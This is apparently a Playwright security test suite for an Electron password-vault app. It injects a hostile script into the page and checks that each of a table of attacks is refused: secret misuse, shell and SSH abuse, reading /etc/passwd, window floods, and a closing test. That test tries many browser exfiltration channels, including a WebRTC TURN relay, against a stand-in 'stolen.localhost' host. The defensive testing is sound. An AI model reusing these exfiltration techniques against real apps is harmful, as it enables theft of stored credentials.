import { randomUUID } from 'node:crypto';
import { join } from 'node:path';
import { expect, test, type Page } from '@playwright/test';
import type { Attack } from '../attacks/attack-row.ts';
import { attackOf, type AttackId } from '../attacks/attacks.ts';
import { laptopOf } from '../attacks/laptop.ts';
import { joinedVault, ownerOf, valueOf } from '../builders/vault.ts';
import { startHoneypot } from '../hosts/honeypot.ts';
import { startSyncServer } from '../hosts/sync-server.ts';
import { castFor } from '../story/cast.ts';
import { injectScript, textOf, type Answer, type HostilePage } from './hostile-page.ts';
import { hostileScene, SECRET, type HostileScene, type StoredCredential } from './hostile-scene.ts';
import { button, field } from './pages/fields.ts';
import { tryPassphrase } from './pages/gate.ts';
import { connectServer, seeAllSynced } from './pages/members.ts';
import type { Person } from './pages/person.ts';
import { closing } from './pages/secure-window.ts';

// Script in the page of the real app, which does what it likes with everything that the page has. The
// person at the secure window says no, or is not there.

const { technician } = castFor('en');

let scene: HostileScene;
let person: Person;
let script: HostilePage;
let stored: StoredCredential;

test.describe.configure({ mode: 'serial', timeout: 180_000 });

test.beforeAll(async () => {
  scene = await hostileScene();
  ({ person, script, stored } = scene);
});
test.afterAll(() => scene.stop());

/** A test of one attack of the table. */
function attack(id: AttackId, run: (row: Attack) => Promise<void>): void {
  const row = attackOf(id);
  test(`${row.id}: ${row.does}`, async () => {
    const before = scene.heard.length;
    await run(row);
    // Nothing left the app, no window was left open, and it still does its work.
    expect(scene.heard.slice(before)).toEqual([]);
    await expect
      .poll(() =>
        person.app.electron.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().length),
      )
      .toBe(1);
  });
}

/** Each answer is a refusal of the table, and none holds the secret. */
function expectRefused(row: Attack, answers: readonly Answer[]): void {
  expect(answers.length).toBeGreaterThan(0);
  for (const answer of answers) {
    expect(answer.ok, JSON.stringify(answer)).toBe(false);
    expect(row.ends).toContain(answer.error?.kind);
  }
  expectNoSecret(answers);
}

function expectNoSecret(answers: readonly unknown[]): void {
  const text = textOf(answers);
  for (const secret of [SECRET, technician.passphrase, Buffer.from(SECRET).toString('base64')]) {
    expect(text).not.toContain(secret);
  }
}

const work = () => stored.work;
const reference = (more: object = {}) => ({
  record: stored.record,
  username: 'ops',
  sealed: stored.sealed,
  work: work(),
  reason: 'looks fine to me',
  ...more,
});
const subject = { name: 'Core', username: 'ops' };
/** Every call of the desk that uses a stored secret. */
const uses = (credential: object): readonly (readonly [string, object])[] => [
  ['reveal', { ...subject, credential }],
  ['copy', { credential, field: 'password' }],
  ['totp', { ...subject, credential, field: 'password' }],
  ['editSecret', { ...subject, credential, kind: 'password', target: null }],
];

/** Asks for something that the person has to agree to, and has them say no. */
async function refused(row: Attack, ask: () => Promise<Answer>): Promise<void> {
  const [secure, answer] = await Promise.all([
    person.app.electron.waitForEvent('window').then(async opened => {
      await expect(opened.locator('[data-request]')).toBeVisible();
      await closing(opened, () => opened.getByTestId('refuse').click());
      return opened;
    }),
    ask(),
  ]);
  expect(secure.isClosed()).toBe(true);
  expectRefused(row, [answer]);
}

attack('bridge-for-secrets', async row => {
  const names = await script.bridgeNames();
  expect(names.length).toBeGreaterThan(10);
  // These end the page or the worker's ports, ask the person, or are other attacks.
  const others =
    /^workspace\.(lock|choosePerson|addPerson|openVault|settled)$|^on\.|sync\.enrol|openTransport|openKeeper/;
  const answers: Answer[] = [];
  for (const name of names.filter(each => !others.test(each))) {
    for (const input of [undefined, {}, reference(), { id: stored.record }, { text: 'x' }]) {
      answers.push(await script.bridge(name, input));
    }
  }
  expectNoSecret(answers);
  expectRefused(
    row,
    answers.filter(({ ok }) => !ok),
  );
});

attack('use-without-work', async row => {
  for (const without of [{ work: undefined }, { work: null }, { work: {} }]) {
    for (const [name, input] of uses(reference(without))) {
      expectRefused(row, [await script.desk(name, input)]);
    }
  }
});

attack('use-for-foreign-work', async row => {
  const spaces = (await script.desk('spaces')).value as { space: string; kind: string }[];
  const organisation = spaces.find(({ kind }) => kind === 'organisation')!.space;
  for (const space of [organisation, randomUUID()]) {
    for (const [name, input] of uses(reference({ work: { ...work(), space } }))) {
      expectRefused(row, [await script.desk(name, input)]);
    }
  }
  for (const other of [{ id: randomUUID() }, { id: stored.record }, { type: 'asset' }]) {
    for (const [name, input] of uses(reference({ work: { ...work(), ...other } }))) {
      expectRefused(row, [await script.desk(name, input)]);
    }
  }
});

attack('use-without-reason', async row => {
  for (const [name, input] of uses(reference({ reason: ' ' }))) {
    expectRefused(row, [await script.desk(name, input)]);
  }
});

attack('use-of-altered-secret', async row => {
  const { sealed } = stored;
  const altered = [
    { ...sealed, record: randomUUID() },
    { ...sealed, target: { host: '127.0.0.1', port: 22 } },
    { ...sealed, revision: 2 },
    { ...sealed, wrapped: sealed['body'] },
    { ...sealed, body: sealed['wrapped'] },
  ];
  for (const each of altered) {
    for (const [name, input] of uses(reference({ sealed: each }))) {
      expectRefused(row, [await script.desk(name, input)]);
    }
  }
});

attack('copy-then-paste', async row => {
  const copied = await script.desk('copy', { credential: reference(), field: 'password' });
  expect(copied.ok, JSON.stringify(copied)).toBe(true);
  expectNoSecret([copied]);
  expectRefused(row, [await script.bridge('terminal.paste')]);
  const read = await person.page.evaluate(async () => {
    const asked = await navigator.clipboard.readText().catch((problem: Error) => problem.name);
    const area = document.createElement('textarea');
    document.body.append(area);
    area.focus();
    // The old way to the clipboard is one that script tries.
    // oxlint-disable-next-line typescript/no-deprecated
    const pasted = document.execCommand('paste');
    const { value } = area;
    area.remove();
    return { asked, pasted, value };
  });
  expectNoSecret([read]);
});

/** Why a session ended, once it has. */
async function endOf(id: string): Promise<Answer> {
  await expect.poll(async () => (await script.sessionState(id))?.state).toBe('closed');
  return { ok: false, error: { kind: (await script.sessionState(id))?.reason ?? '' } };
}

attack('log-in-elsewhere', async row => {
  const trap = await startHoneypot();
  try {
    const id = randomUUID();
    expect((await script.openSession(id, 'ssh')).ok).toBe(true);
    const target = {
      transport: 'ssh',
      host: trap.host,
      port: trap.port,
      hostKeys: [],
      credential: reference({ logIn: 'password' }),
    };
    await script.session(id, 'open', { target, size: { cols: 80, rows: 24 } });
    expectRefused(row, [await endOf(id)]);
    // Not even reached: the user name alone would carry off what the script has read.
    expect(trap.connections()).toBe(0);
  } finally {
    await trap.stop();
  }
});

attack('shell-without-consent', async row => {
  const id = randomUUID();
  await refused(row, () => script.openSession(id, 'local'));
  const opened = await script.session(id, 'open', { target: { transport: 'local' } });
  expect(opened.error?.kind).toBe('no-port');
});

attack('shell-over-ssh-port', async row => {
  const id = randomUUID();
  expect((await script.openSession(id, 'ssh')).ok).toBe(true);
  const size = { cols: 80, rows: 24 };
  await script.session(id, 'open', { target: { transport: 'local' }, size });
  expectRefused(row, [await endOf(id)]);
});

attack('connect-elsewhere', async row => {
  await refused(row, () => script.bridge('sync.enrol', { server: scene.elsewhere, code: 'code' }));
  expect(await script.bridge('sync.connection')).toMatchObject({ value: { state: 'local' } });
});

attack('export-without-consent', row =>
  refused(row, () =>
    script.desk('exportCredentials', {
      credentials: [{ sealed: stored.sealed, overview: { name: 'Core', kind: 'password' } }],
      work: work(),
      reason: 'to keep a copy',
    }),
  ),
);

attack('policy-without-consent', async row => {
  const policy = await script.desk('policy', { space: stored.space });
  const { policy: rules } = policy.value as { policy: Record<string, unknown> };
  await refused(row, () =>
    script.desk('setPolicy', { space: stored.space, policy: { ...rules, reasonFor: [] } }),
  );
});

attack('rotate-without-consent', row =>
  refused(row, () => script.desk('rotateKeys', { space: stored.space })),
);

attack('flood-of-windows', async row => {
  const opened: Page[] = [];
  person.app.electron.on('window', window => opened.push(window));
  // The vault asks for the one, main for the other.
  const asked = Array.from({ length: 24 }, (_, i) =>
    i < 12
      ? script.desk('rotateKeys', { space: stored.space })
      : script.openSession(randomUUID(), 'local'),
  );
  const answers: Answer[] = [];
  for (const answer of asked) void answer.then(each => answers.push(each));
  // One at a time is on screen; the person refuses each.
  while (answers.length < asked.length) {
    const window = opened.find(each => !each.isClosed());
    await window
      ?.getByTestId('refuse')
      .click({ timeout: 1000 })
      .catch(() => undefined);
    await person.page.waitForTimeout(50);
  }
  expectRefused(row, answers);
  // Those that would have waited in line behind a few were refused unseen.
  expect(opened.length).toBeLessThan(asked.length / 2);
});

attack('oversized-payloads', async row => {
  const huge = 'A'.repeat(8 * 1_048_576);
  expectRefused(row, [
    await script.bridge('workspace.copyText', { text: huge }),
    await script.bridge('reports.saveText', { suggestedName: huge, text: huge }),
    await script.desk('copy', { credential: reference({ reason: huge }), field: 'password' }),
    await script.desk('reveal', { ...subject, name: huge, credential: reference() }),
    await script.data('commit', { edits: Array.from({ length: 501 }, () => ({})) }),
    await script.data('search', { text: huge }),
  ]);
});

attack('malformed-payloads', async row => {
  const odd = [
    null,
    7,
    'text',
    [],
    [[]],
    { a: { b: { c: 1 } } },
    Array.from({ length: 1000 }, () => 0),
  ];
  const names = ['reveal', 'copy', 'rotateKeys', 'confirmJoiner', 'setPolicy', 'importCommit'];
  for (const input of odd) {
    for (const name of names) expectRefused(row, [await script.desk(name, input)]);
    expectRefused(row, [
      await script.bridge('settings.write', input),
      await script.bridge('terminal.openPort', input),
      await script.bridge('sync.enrol', input),
      await script.bridge('workspace.choosePerson', input),
      await script.data('commit', input),
      await script.data('get', input),
    ]);
  }
});

attack('inherited-names', async row => {
  for (const name of ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf', '']) {
    expectRefused(row, [
      await script.desk(name),
      await script.data(name),
      await script.bridge(`workspace.${name}x`),
    ]);
  }
});

attack('reveal-any-file', async row => {
  for (const path of ['/etc/passwd', join(scene.profile, 'people'), '']) {
    expectRefused(row, [await script.bridge('reports.revealFile', { path })]);
  }
});

attack('second-window', async row => {
  const { page, app } = person;
  expect(await page.evaluate(() => window.open('app://rackside/') === null)).toBe(true);
  const answer = await app.electron.evaluate(async ({ app: self, BrowserWindow }) => {
    const window = new BrowserWindow({
      show: false,
      webPreferences: { preload: `${self.getAppPath()}/out/preload/index.cjs`, sandbox: true },
    });
    await window.loadURL('app://rackside/');
    const asked: unknown = await window.webContents.executeJavaScript(
      'window.rackside.workspace.openVault()',
    );
    window.destroy();
    return asked;
  });
  expectRefused(row, [answer as Answer]);
});

attack('wrong-sender', async row => {
  const answers = await person.app.electron.evaluate(async ({ app: self, BrowserWindow }) => {
    const answered: unknown[] = [];
    for (const address of ['data:text/html,<p>x', 'about:blank', 'app://secure/']) {
      const window = new BrowserWindow({
        show: false,
        webPreferences: { preload: `${self.getAppPath()}/out/preload/index.cjs`, sandbox: true },
      });
      await window.loadURL(address).catch(() => undefined);
      answered.push(
        await window.webContents
          .executeJavaScript('window.rackside.workspace.status()')
          .catch(() => ({ ok: false, error: { kind: 'not-permitted' } })),
      );
      window.destroy();
    }
    return answered;
  });
  expectRefused(row, answers as Answer[]);
});

attack('admit-without-consent', async row => {
  const server = await startSyncServer();
  try {
    await connectServer(person, server, technician.passphrase);
    await seeAllSynced(person);
    const asked = { server: server.url, spaces: [stored.space], role: 'admin' };
    const invited = await script.desk('invite', asked);
    const { text } = invited.value as { text: string };
    const vault = await joinedVault(text, 'Mallory');
    const accomplice = await laptopOf(vault);
    const { account } = await ownerOf(vault);
    await expect
      .poll(async () => JSON.stringify((await script.desk('joiners')).value), { timeout: 30_000 })
      .toContain(account);
    await refused(row, () => script.desk('confirmJoiner', { account }));
    expect(valueOf(await vault.records.keys(undefined)).spaces).toEqual([]);
    accomplice.stop();
    vault.close();
  } finally {
    await server.stop();
  }
});

attack('ports-after-lock', async row => {
  const { page, say } = person;
  await button(page, say('app:lock')).click();
  await expect(field(page, say('workspace:passphrase'))).toBeVisible();
  // The page is another one: what the script had kept is gone with the old one.
  expect(await page.evaluate(() => 'hostile' in window)).toBe(false);
  script = await injectScript(page);
  expectRefused(row, [
    await script.bridge('terminal.openPort', { session: randomUUID(), transport: 'ssh' }),
    await script.bridge('terminal.openPort', { session: randomUUID(), transport: 'local' }),
    await script.bridge('sync.enrol', { server: scene.elsewhere, code: 'code' }),
  ]);
});

attack('guess-passphrase', async row => {
  const { page, say } = person;
  await tryPassphrase(person, 'not the passphrase');
  await expect(page.getByText(say('errors:wrong-passphrase'))).toBeVisible();
  const answers: Answer[] = [];
  for (let i = 0; i < 10; i += 1) {
    answers.push(await script.desk('unlock', { passphrase: `guess ${i}` }));
  }
  expectRefused(row, answers);
  // All but one or two had to wait for their turn.
  expect(answers.filter(({ error }) => error?.kind === 'unlock-delayed').length).toBeGreaterThan(7);
});

// Last, for it leaves the page in pieces.
attack('exfiltrate', async row => {
  const outcome = await person.page.evaluate(async to => {
    const violations: string[] = [];
    document.addEventListener('securitypolicyviolation', event =>
      violations.push(event.effectiveDirective),
    );
    const tried = [
      () => fetch(`${to}/fetch`),
      () => fetch(`${to}/no-cors`, { mode: 'no-cors' }),
      () => new WebSocket(to.replace('http', 'ws')),
      () => new EventSource(`${to}/events`),
      () => navigator.sendBeacon(`${to}/beacon`, 'x'),
      () => new Worker(`${to}/worker.js`),
      () => import(/* @vite-ignore */ `${to}/module.js`),
      () => navigator.serviceWorker.register(`${to}/service.js`),
    ];
    for (const attempt of tried) {
      try {
        await attempt();
      } catch {
        // Refused, which is what is wanted; that nothing was heard is looked at elsewhere.
      }
    }
    const add = (tag: string, more: object): void => {
      document.body.append(Object.assign(document.createElement(tag), more));
    };
    add('img', { src: `${to}/image.png` });
    add('script', { src: `${to}/script.js` });
    add('link', { rel: 'stylesheet', href: `${to}/style.css` });
    add('link', { rel: 'prefetch', href: `${to}/prefetch` });
    add('link', { rel: 'preconnect', href: to });
    add('link', { rel: 'dns-prefetch', href: to.replace('127.0.0.1', 'stolen.localhost') });
    add('iframe', { src: `${to}/frame` });
    add('object', { data: `${to}/object` });
    add('video', { src: `${to}/video` });
    // No policy of a page speaks of these: a call to a relay, whose user name is what was stolen.
    const { port } = new URL(to);
    const relays = ['127.0.0.1', 'stolen.localhost'].flatMap(host => [
      `stun:${host}:${port}`,
      `turn:${host}:${port}?transport=udp`,
      `turn:${host}:${port}?transport=tcp`,
    ]);
    const urls = { username: 'stolen', credential: 'x' };
    const call = new RTCPeerConnection({
      iceServers: relays.map(each => ({ ...urls, urls: each })),
    });
    call.createDataChannel('stolen');
    await call.setLocalDescription(await call.createOffer());
    await new Promise(resolve => setTimeout(resolve, 1_500));
    call.close();
    const form = Object.assign(document.createElement('form'), { action: to, method: 'post' });
    document.body.append(form);
    form.submit();
    window.location.assign(`${to}/navigate`);
    await new Promise(resolve => setTimeout(resolve, 500));
    return { violations, address: window.location.href };
  }, scene.elsewhere);
  expect(outcome.address).toMatch(/^app:\/\/rackside\//);
  expect(outcome.violations.length).toBeGreaterThan(5);
  expect(row.ends.length).toBeGreaterThan(0);
  for (const directive of outcome.violations) expect(row.ends).toContain(directive);
});
